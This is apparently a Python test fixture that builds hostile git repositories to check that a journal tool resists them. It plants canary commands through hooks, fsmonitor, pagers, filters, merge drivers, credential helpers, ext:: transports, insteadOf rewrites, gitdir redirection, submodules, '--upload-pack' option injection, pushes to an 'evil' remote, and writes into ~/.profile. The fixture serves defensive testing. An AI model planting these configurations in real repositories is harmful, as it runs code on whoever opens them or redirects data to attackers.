"""Journal folders with a repository that came from elsewhere, in an archive or
on a USB stick: for tests/hostile.py. Each function makes the journal of a
world one of these; what it is called says what is wrong with it. Those in
PROOFS have words for git that run one of its canaries.
"""

import shutil

import hostile_records
from hostile_records import change

HOOKS = ("applypatch-msg", "commit-msg", "fsmonitor-watchman",
         "post-applypatch", "post-checkout", "post-commit",
         "post-index-change", "post-merge", "post-rewrite", "post-update", "pre-applypatch", "pre-auto-gc",
         "pre-commit", "pre-merge-commit", "pre-push", "pre-rebase",
         "prepare-commit-msg", "push-to-checkout", "reference-transaction",
         "sendemail-validate")


def configure(world, *settings):
    for key, value in settings:
        world.git("config", "--add", key, value)


def canaries(world, *keys):
    configure(world, *((key, f"{world.canary(key)}; false") for key in keys))


def monitor_of_files(world):
    canaries(world, "core.fsmonitor")


def programs_to_look_with(world):
    canaries(world, "core.pager", "pager.diff", "pager.status", "core.editor",
             "sequence.editor", "diff.external", "interactive.diffFilter",
             "alias.status", "alias.commit", "alias.fetch", "alias.push",
             "alias.merge", "alias.add", "web.browser.cmd", "man.viewer",
             "diff.hw.textconv", "diff.hw.command",
             "uploadpack.packObjectsHook", "trailer.x.command",
             "mergetool.hw.cmd", "difftool.hw.cmd",
             "hook.x.command", "core.gitProxy")
    configure(world, ("pager.diff", "true"), ("hook.x.event", "pre-commit"))
    attributes(world, "*.toml diff=hw\n")


def signatures(world):
    for key in ("gpg.program", "gpg.ssh.program", "gpg.x509.program",
                "gpg.ssh.defaultKeyCommand"):
        configure(world, (key, world.program_of(key)))
    configure(world, ("commit.gpgSign", "true"), ("push.gpgSign", "if-asked"),
              ("merge.verifySignatures", "false"), ("tag.gpgSign", "true"),
              ("log.showSignature", "true"))


def attributes(world, text):
    """Where no commit has them."""
    (world.journal / ".git/info").mkdir(exist_ok=True)
    (world.journal / ".git/info/attributes").write_text(text)


def write_hooks(world, folder):
    folder.mkdir(exist_ok=True)
    for name in HOOKS:
        (folder / name).write_text(f"#!/bin/sh\n{world.canary(name)}\n")
        (folder / name).chmod(0o755)


def hooks(world):
    write_hooks(world, world.journal / ".git/hooks")


def hooks_in_another_folder(world):
    write_hooks(world, world.journal / "hooks")
    configure(world, ("core.hooksPath", "hooks"))


def filters(world):
    """Which do what they are to do, too."""
    for name in ("clean", "smudge"):
        configure(world, (f"filter.x.{name}", f"{world.canary(name)}; cat"))
    attributes(world, "* filter=x\n")


def filters_that_stay(world):
    canaries(world, "filter.x.process")
    configure(world, ("filter.x.required", "true"))
    attributes(world, "* filter=x\n")


def merge_drivers(world):
    canaries(world, "merge.hw.driver", "merge.hw.recursive", "merge.x.driver",
             "merge.default")
    configure(world, ("merge.default", "x"))
    attributes(world, "assignments/* merge=x\n")


def point_to(world, url):
    configure_all(world, "remote.origin.url", url)
    configure_all(world, "hw.remote", url)


def configure_all(world, key, value):
    world.git("config", "--replace-all", key, value)


def ways_to_a_host(world):
    canaries(world, "core.sshCommand", "core.askPass", "credential.helper",
             "core.gitProxy", "credential.https://127.0.0.1:1.helper")
    configure(world, ("ssh.variant", "simple"))
    point_to(world, "ssh://nobody@127.0.0.1/x")


def password_helpers(world):
    canaries(world, "credential.helper", "core.askPass")
    configure(world, ("http.proxy", "http://x@127.0.0.1:1"))
    point_to(world, "https://127.0.0.1:1/x")


def proxy_of_git(world):
    configure(world, ("core.gitProxy", world.program_of("gitProxy")))
    point_to(world, "git://127.0.0.1:1/x")


def programs_of_the_remote(world):
    configure(world, ("remote.origin.uploadpack", world.canary("upload")),
              ("remote.origin.receivepack", world.canary("receive")))


def transport_that_is_a_program(world):
    configure(world, ("protocol.ext.allow", "always"),
              ("protocol.allow", "always"))
    point_to(world, "ext::sh -c " + world.canary("ext").replace(" ", "% "))


def address_that_becomes_a_program(world):
    canary = f"{world.canary('instead')}; :".replace(" ", "% ")
    configure(world, ("protocol.ext.allow", "always"),
              (f"url.ext::sh -c {canary}% .insteadOf", str(world.top)))


def address_for_sending_that_becomes_a_program(world):
    canary = f"{world.canary('push-instead')}; :".replace(" ", "% ")
    configure(world, ("protocol.ext.allow", "always"),
              (f"url.ext::sh -c {canary}% .pushInsteadOf", str(world.top)))


def helper_of_another_transport(world):
    """git-remote-hwx, found where an alias of the path would find it."""
    configure(world, ("remote.origin.vcs", "ext"),
              ("protocol.ext.allow", "always"))
    configure_all(world, "remote.origin.url",
                  "sh -c " + world.canary("vcs").replace(" ", "% "))


def configuration_in_other_files(world):
    (world.journal / "more").write_text(
        f'[core]\n\tfsmonitor = "{world.canary("include")}; false"\n')
    configure(world, ("include.path", str(world.journal / "more")),
              ("includeIf.onbranch:main.path", str(world.journal / "more")))


def configuration_of_the_work_tree(world):
    configure(world, ("extensions.worktreeConfig", "true"))
    (world.journal / ".git/config.worktree").write_text(
        f'[core]\n\tfsmonitor = "{world.canary("worktree")}; false"\n')


def work_tree_elsewhere(world):
    configure(world, ("core.worktree", str(world.home / "secret")))


def repository_elsewhere(world):
    """A file that leads to a repository with a canary of its own."""
    canaries(world, "core.fsmonitor")
    write_hooks(world, world.journal / ".git/hooks")
    shutil.move(world.journal / ".git", world.home / "other/git")
    (world.journal / ".git").write_text("gitdir: ../home/other/git\n")


def repository_elsewhere_by_a_link(world):
    canaries(world, "core.fsmonitor")
    write_hooks(world, world.journal / ".git/hooks")
    shutil.move(world.journal / ".git", world.home / "other/git")
    (world.journal / ".git").symlink_to("../home/other/git")


def common_folder_elsewhere(world):
    other = world.home / "other/git"
    shutil.copytree(world.journal / ".git", other)
    write_hooks(world, other / "hooks")
    (world.journal / ".git/commondir").write_text("../../home/other/git\n")


def objects_elsewhere(world):
    alternates = world.journal / ".git/objects/info/alternates"
    alternates.parent.mkdir(exist_ok=True)
    alternates.write_text(f"{world.attacker}/objects\n")
    canaries(world, "core.alternateRefsCommand")


def submodules(world):
    inner = world.journal / "inner"
    world.run("git", "init", "--quiet", inner)
    world.run("git", "-C", inner, "commit", "--quiet", "--allow-empty", "-mx")
    world.git("-c", "protocol.file.allow=always", "submodule", "--quiet",
              "add", "./inner", "inner", status=None)
    write_hooks(world, inner / ".git/hooks")
    world.run("git", "-C", inner, "config", "core.fsmonitor",
              f"{world.canary('inner')}; false")
    configure(world, ("submodule.recurse", "true"), ("submodule.inner.update",
              f"!{world.canary('update')}"), ("submodule.inner.active", "true"),
              ("fetch.recurseSubmodules", "true"),
              ("push.recurseSubmodules", "on-demand"))
    (inner / "new").write_text("x")


def address_that_is_said_to_be_known(world):
    """hw sync asks before it sends a journal to a place for the first time."""
    point_to(world, str(world.attacker))


def second_address_to_send_to(world):
    configure(world, ("remote.origin.pushurl", str(world.hub)),
              ("remote.origin.pushurl", str(world.attacker)))


def other_remote_of_the_branch(world):
    configure(world, ("remote.evil.url", str(world.attacker)),
              ("branch.main.pushRemote", "evil"),
              ("remote.pushDefault", "evil"))


def branch_of_another_remote(world):
    configure(world, ("remote.evil.url", str(world.attacker)))
    configure_all(world, "branch.main.remote", "evil")


def options_in_names(world):
    configure(world, ("remote.--upload-pack=x.url", str(world.attacker)))
    configure_all(world, "branch.main.remote", "--upload-pack=x")
    configure_all(world, "branch.main.merge", "refs/heads/--upload-pack=x")


def records(world, text, name):
    """Not in a commit: they came in the archive itself."""
    (world.journal / ".hw" / name).write_bytes(text)


def records_of_an_unfinished_step(world):
    hook = f"#!/bin/sh\n{world.canary('hook')}\n".encode()
    records(world, hostile_records.unfinished(
        change("../home/.profile", None, b"touch owned\n"),
        change(".git/hooks/pre-commit", None, hook)), "unfinished")


def records_in_history(world):
    hook = f"#!/bin/sh\n{world.canary('hook')}\n".encode()
    records(world, hostile_records.history(
        change("../home/.profile", None, b"touch owned\n"),
        change(".git/hooks/pre-commit", None, hook)), "history")


def records_that_write_through_a_link(world):
    """Which the person may have made; but a record has no use for it."""
    (world.journal / "support.toml").symlink_to("../home/.profile")
    records(world, hostile_records.unfinished(
        change("support.toml", None, b"touch owned\n")), "unfinished")


def nested(world):
    """A repository above, as for dotfiles in a home."""
    for words in (("init", "--quiet"), ("add", ".gitconfig"),
                  ("commit", "--quiet", "-mx"),
                  ("remote", "add", "origin", world.attacker),
                  ("push", "--quiet", "-u", "origin", "HEAD:refs/heads/dots")):
        world.run("git", "-C", world.home, *words)
    # The journal is within it: its name leads to a folder below.
    shutil.move(world.journal, world.home / "journal")
    world.move_journal(world.home / "journal")


def repository_with_an_empty_head(world):
    nested(world)
    (world.journal / ".git/HEAD").write_text("")


def repository_with_zeros_for_a_head(world):
    nested(world)
    (world.journal / ".git/HEAD").write_bytes(bytes(24))


def repository_without_a_head(world):
    nested(world)
    (world.journal / ".git/HEAD").unlink()


def repository_without_objects(world):
    nested(world)
    shutil.rmtree(world.journal / ".git/objects")


def repository_without_refs(world):
    nested(world)
    shutil.rmtree(world.journal / ".git/refs")


def repository_that_is_an_empty_folder(world):
    nested(world)
    shutil.rmtree(world.journal / ".git")
    (world.journal / ".git").mkdir()


def repository_that_leads_nowhere(world):
    nested(world)
    shutil.rmtree(world.journal / ".git")
    (world.journal / ".git").write_text("gitdir: /nowhere/at/all\n")


def repository_with_a_broken_configuration(world):
    nested(world)
    (world.journal / ".git/config").write_text("[core\n")


HELPERS = (configure, configure_all, canaries, attributes, write_hooks,
           point_to, records, nested, change)
FOLDERS = [made for made in list(globals().values())
           if callable(made) and made not in HELPERS]

CHANGE = ("commit", "--allow-empty", "--quiet", "--message", "x")
FETCH = ("fetch", "--quiet", "origin")
PROOFS = {
    monitor_of_files: (("status",),),
    programs_to_look_with: (("diff", "HEAD~"),),
    signatures: (CHANGE,),
    hooks: (CHANGE,),
    hooks_in_another_folder: (CHANGE,),
    filters: (("add", "--renormalize", "."),),
    filters_that_stay: (("add", "--renormalize", "."),),
    merge_drivers: (CHANGE, FETCH, ("merge", "--no-edit", "origin/main")),
    ways_to_a_host: (FETCH,),
    programs_of_the_remote: (FETCH,),
    transport_that_is_a_program: (FETCH,),
    address_that_becomes_a_program: (FETCH,),
    address_for_sending_that_becomes_a_program: (("push", "origin", "main"),),
    proxy_of_git: (FETCH,),
    helper_of_another_transport: (FETCH,),
    configuration_in_other_files: (("status",),),
    configuration_of_the_work_tree: (("status",),),
    repository_elsewhere: (("status",),),
    repository_elsewhere_by_a_link: (("status",),),
    common_folder_elsewhere: (CHANGE,),
    objects_elsewhere: (FETCH,),
    submodules: (("status",),),
}
